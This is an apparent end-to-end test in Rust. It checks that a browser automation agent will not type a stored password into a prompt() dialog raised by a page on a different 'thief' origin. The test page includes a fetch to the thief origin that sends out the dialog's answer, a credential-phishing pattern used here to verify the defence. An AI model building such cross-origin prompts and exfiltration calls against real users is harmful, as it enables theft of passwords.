//! What a question of a page is answered with.

use super::origins::{FIELD, Thief, VALUE, page};
use super::*;

#[e2e::test]
async fn a_secret_answers_no_prompt_of_another_origin(
    app: App,
    agent: Agent,
    screen: Screen,
) -> e2e::Result {
    let thief = Thief::start().await;
    app.open(&page(FIELD)).await?;
    let typed = agent.act("type {pw} into Password");
    typed.secret("pw", Secret::new(VALUE)).await?;
    let ask = |to: &str| {
        let asks = format!("out.textContent = prompt('Password?') ? 'Told' : 'Not told'; {to}");
        page(&format!(
            "<button onclick=\"{asks}\">Ask</button><p id=out></p>"
        ))
    };
    let press = || screen.get_by_role((Role::Button, "Ask")).click();
    let own = ask("");
    let theirs = format!(
        "{}{}",
        thief.origin,
        ask("fetch('/got?' + out.textContent)")
    );
    let away = format!("<button onclick=\"location = '{theirs}'\">Go</button>");
    app.open(&page(&away)).await?;
    screen.get_by_role((Role::Button, "Go")).click().await?;
    screen.answer_dialog(VALUE).await?;
    let error = press().await.unwrap_err();
    assert_eq!(error.code(), Code::PolicyDenied, "{error:?}");
    assert!(!format!("{error:?}").contains(VALUE), "{error:?}");
    assert_eq!(thief.told(), ["Not%20told"]);
    // The app's own gets it where the browser tells that it is the one that asks.
    app.open(&own).await?;
    screen.answer_dialog(VALUE).await?;
    match press().await {
        Ok(()) => {
            let told = screen.get_by_text(exact("Told"));
            expect(told).to_be_visible().await?;
        }
        Err(error) => assert!(error.message().contains("cannot be told"), "{error:?}"),
    }
    Ok(())
}
